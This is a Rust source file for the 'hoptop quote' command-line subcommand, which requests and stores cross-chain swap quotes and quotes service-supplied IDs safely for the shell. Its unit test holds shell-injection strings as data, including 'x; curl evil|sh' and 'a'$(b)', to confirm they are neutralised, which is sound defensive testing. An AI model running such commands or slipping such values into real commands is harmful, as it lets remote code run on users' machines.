//! `hoptop quote`: requests a route and stores the quote, so that a transaction added later gets its estimate.
//!
//! The command must never send a request that the service can only refuse, nor print the service's text to a terminal
//! without cleaning it.

use std::{io, time::Duration};

use chrono::TimeDelta;
use clap::Args;
use color_eyre::eyre::Result;

use crate::{
    cli::{
        context::Context,
        one_shot_poll::{self, OneShotOutcome, OneShotPoll},
        opening::LoadedSettings,
        output::{
            json,
            quote_json::{QuoteResult, QuoteView},
        },
    },
    clock::Clock,
    domain::{
        observation::RequestFailure,
        operation::Operation,
        quote::{
            Quote, QuoteAnswer, QuoteRequest,
            fields::{QuoteField, QuoteFieldError},
        },
        span,
    },
    runtime::{background_poller::ServiceClient, exit::Exit, log_file},
    store::{QuoteSubmission, Reader, StoredQuote},
};

/// The longest wait for a quote, including other processes' requests, a blocked budget and a timeout.
const MAX_WAIT: Duration = Duration::from_secs(40);

/// The way out of the wallet's limit.
const LIMIT_HINT: &str = "without --with-transaction-data there is no such limit; other wallets are not affected";

/// The text below the options in the help.
pub(crate) const EXAMPLES: &str = "\
Examples:
  # Quote 25 units of a token with 6 decimals
  hoptop quote --from-chain 42161 --to-chain 8453 --from-amount 25000000 \\
      --from-token 0xaf88d065e77c8cC2239327C5EDb3A432268e5831 \\
      --to-token 0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913 \\
      --from-address 0x1f0a...

The same request within 30 seconds returns the same quote. Exit codes: 0 there is a quote, 1 the service refuses it or \
sends no quoteId, 2 a value is invalid, 5 the service refuses the integrator ID, 6 no answer was received.";

/// The arguments of `hoptop quote`.
#[derive(Args, Clone, Debug)]
pub(crate) struct QuoteArgs {
    /// The source chain's ID, as the service uses it
    #[arg(long, value_name = "CHAIN")]
    from_chain: String,
    /// The source token's address
    #[arg(long, value_name = "ADDRESS")]
    from_token: String,
    /// The amount, an integer in the token's smallest unit
    #[arg(long, value_name = "AMOUNT")]
    from_amount: String,
    /// The destination chain's ID
    #[arg(long, value_name = "CHAIN")]
    to_chain: String,
    /// The destination token's address
    #[arg(long, value_name = "ADDRESS")]
    to_token: String,
    /// The user's address on the source chain, which receives a refund
    #[arg(long, value_name = "ADDRESS")]
    from_address: String,
    /// The recipient's address on the destination chain [default: the same as --from-address, on EVM chains]
    #[arg(long, value_name = "ADDRESS")]
    to_address: Option<String>,
    /// Request transaction data too (quoteOnly: false); the service limits such requests for each wallet
    #[arg(long)]
    with_transaction_data: bool,
    /// Accept any text as a chain ID; numbers and IDs such as osmosis-1 are always accepted
    #[arg(long)]
    any_chain: bool,
    /// Print JSON, including the service's unchanged response
    #[arg(long)]
    json: bool,
}

/// Requests the route and prints the result.
pub(crate) fn quote(args: &QuoteArgs, loaded: &LoadedSettings, cx: &mut Context) -> Result<Exit> {
    let LoadedSettings { settings, team } = loaded;
    let request = match parse_request(args) {
        Ok(request) => request,
        Err(errors) => {
            let line =
                |QuoteFieldError { field, reason }: QuoteFieldError| writeln!(cx.err, "{}: {reason}", option(field));
            errors.into_iter().try_for_each(line)?;
            return Ok(Exit::Usage);
        }
    };
    for warning in request.address_warnings() {
        writeln!(cx.err, "warning: {warning}")?;
    }
    // Everything that can fail comes first: after a failure no other process must send this request.
    let client = ServiceClient::checked(settings.polling())?;
    log_file::start(&settings.state_dir, &settings.db, Clock::system())?;
    let at = cx.now.wall;
    let until = at + TimeDelta::from_std(MAX_WAIT)?;
    let operation =
        Operation::RequestQuote { profile: cx.profile.clone(), request: request.clone(), wanted_until: until };
    let outcome = match cx.store.apply(operation, at).wait()?.asked()? {
        QuoteSubmission::Reused(quote) => QuoteResult::Answered { quote, is_reused: true },
        QuoteSubmission::WalletLimited { until, message } => QuoteResult::WalletLimited { until, message },
        QuoteSubmission::Pending { id, quote } => {
            let answered = move |reader: &Reader| Ok(reader.quote(id)?.is_none_or(|quote| quote.answer.is_some()));
            let one_shot_poll = OneShotPoll { settings, store: &cx.store, team: team.as_ref(), timeout: MAX_WAIT };
            let ended = one_shot_poll.run(client, answered);
            cx.now = Clock::system().now();
            let operation = Operation::WithdrawQuote { quote: *quote, wanted_until: until };
            cx.store.apply(operation, cx.now.wall).wait()?;
            match ended? {
                OneShotOutcome::Stopped(exit) => return Ok(exit),
                OneShotOutcome::Blocked(exit) => load_outcome(id, exit, cx)?,
                OneShotOutcome::Done | OneShotOutcome::NoAnswer => load_outcome(id, Exit::Unreachable, cx)?,
            }
        }
    };
    if args.json {
        let view = QuoteView::new(&request, &outcome, cx.now.wall);
        writeln!(cx.out, "{}", json::ascii(&serde_json::to_string(&view)?))?;
    } else {
        print_outcome(&outcome, cx)?;
    }
    Ok(exit_code(&outcome))
}

/// Returns the current result of the request. `exit` is the exit code if there is none.
fn load_outcome(id: i64, exit: Exit, cx: &Context) -> Result<QuoteResult> {
    let reader = cx.store.reader()?;
    Ok(match reader.quote(id)? {
        Some(quote) if quote.answer.is_some() => QuoteResult::Answered { quote: Box::new(quote), is_reused: false },
        Some(quote) if quote.sent_at.is_some() => {
            QuoteResult::NoAnswer("the request was sent and its answer was lost; run the command again".into(), exit)
        }
        _ => QuoteResult::NoAnswer(one_shot_poll::no_answer_reason(&cx.store, &cx.profile, cx.now.wall)?, exit),
    })
}

/// Returns the request, or every invalid value.
fn parse_request(args: &QuoteArgs) -> Result<QuoteRequest, Vec<QuoteFieldError>> {
    let value = |field| match field {
        QuoteField::FromChain => Some(args.from_chain.as_str()),
        QuoteField::FromToken => Some(args.from_token.as_str()),
        QuoteField::FromAmount => Some(args.from_amount.as_str()),
        QuoteField::ToChain => Some(args.to_chain.as_str()),
        QuoteField::ToToken => Some(args.to_token.as_str()),
        QuoteField::FromAddress => Some(args.from_address.as_str()),
        QuoteField::ToAddress => args.to_address.as_deref(),
    };
    QuoteRequest::parse(value, !args.with_transaction_data, args.any_chain)
}

/// Returns the option for a value: `--from-chain` for `fromChain`.
fn option(field: QuoteField) -> String {
    let letter = |letter: char| match letter.is_ascii_uppercase() {
        true => format!("-{}", letter.to_ascii_lowercase()),
        false => letter.to_string(),
    };
    format!("--{}", field.name().chars().map(letter).collect::<String>())
}

fn exit_code(outcome: &QuoteResult) -> Exit {
    match outcome {
        QuoteResult::NoAnswer(_, exit) => *exit,
        QuoteResult::WalletLimited { .. } => Exit::Error,
        QuoteResult::Answered { quote, .. } => match &quote.answer {
            // Without its ID a route can't be tracked.
            Some(QuoteAnswer::Route(route)) if route.quote_id.is_none() => Exit::Error,
            Some(QuoteAnswer::Route(_)) => Exit::Success,
            Some(QuoteAnswer::Failed(RequestFailure::Unauthorized(_))) => Exit::Unauthorized,
            Some(QuoteAnswer::Failed(RequestFailure::Throttled { .. })) => Exit::Unreachable,
            Some(QuoteAnswer::Failed(failure)) if failure.is_outage() => Exit::Unreachable,
            _ => Exit::Error,
        },
    }
}

fn print_outcome(outcome: &QuoteResult, cx: &mut Context) -> io::Result<()> {
    match outcome {
        QuoteResult::NoAnswer(reason, _) => writeln!(cx.err, "no quote: {reason}"),
        QuoteResult::WalletLimited { until, message } => {
            let wait = span::long(span::between(cx.now.wall, *until));
            writeln!(cx.err, "no quote: {message}; this wallet has to wait {wait}; no request was sent")?;
            writeln!(cx.err, "{LIMIT_HINT}")
        }
        QuoteResult::Answered { quote, is_reused } => match &quote.answer {
            Some(QuoteAnswer::Route(route)) => print_route(quote, route, *is_reused, cx),
            Some(answer) => print_refusal(answer, cx),
            None => Ok(()),
        },
    }
}

fn print_route(quote: &StoredQuote, route: &Quote, is_reused: bool, cx: &mut Context) -> io::Result<()> {
    let request = &quote.request;
    for (label, value) in route.facts(request, cx.now.wall) {
        writeln!(cx.out, "{label:<15}{value}")?;
    }
    if is_reused {
        let age = span::between(quote.answered_at.unwrap_or(quote.asked_at), cx.now.wall);
        writeln!(cx.out, "age            {}: the stored quote for this request; no request was sent", span::long(age))?;
    }
    route.warnings.iter().try_for_each(|warning| writeln!(cx.out, "warning        {warning}"))?;
    if let Some(id) = &route.quote_id {
        let (from, to) = (&request.from_chain, &request.to_chain);
        let id = shell_word(id);
        writeln!(cx.out, "\nafter you send the transaction:  hoptop add TX --from {from} --to {to} --quote-id={id}")?;
    }
    if !request.is_quote_only {
        writeln!(cx.out, "--json prints the transaction data, as part of the service's answer")?;
    }
    Ok(())
}

/// Returns a word quoted for a shell, so that text from the service can't run a command.
fn shell_word(word: &str) -> String {
    let is_plain = word.chars().all(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '_' | ':' | '-'));
    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

fn print_refusal(answer: &QuoteAnswer, cx: &mut Context) -> io::Result<()> {
    let limit = if let QuoteAnswer::WalletLimited { retry_after, .. } = answer { Some(*retry_after) } else { None };
    let wait = limit.map_or_else(String::new, |wait| format!("; this wallet has to wait {}", span::long(wait)));
    writeln!(cx.err, "no quote: {}{wait}", answer.refusal().unwrap_or_default())?;
    writeln!(cx.err, "  {}", answer.resolution().unwrap_or_default())?;
    limit.map_or(Ok(()), |_| writeln!(cx.err, "{LIMIT_HINT}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quote_id_is_one_shell_word() {
        let table = [("5f2a-1:b", "5f2a-1:b"), ("x; curl evil|sh", "'x; curl evil|sh'"), ("a'$(b)", r"'a'\''$(b)'")];
        for (id, word) in table {
            assert_eq!(shell_word(id), word);
        }
    }

    #[test]
    fn each_value_has_an_option() {
        let options = QuoteField::ALL.map(option);
        assert_eq!((options[0].as_str(), options[2].as_str()), ("--from-chain", "--from-amount"));
    }
}
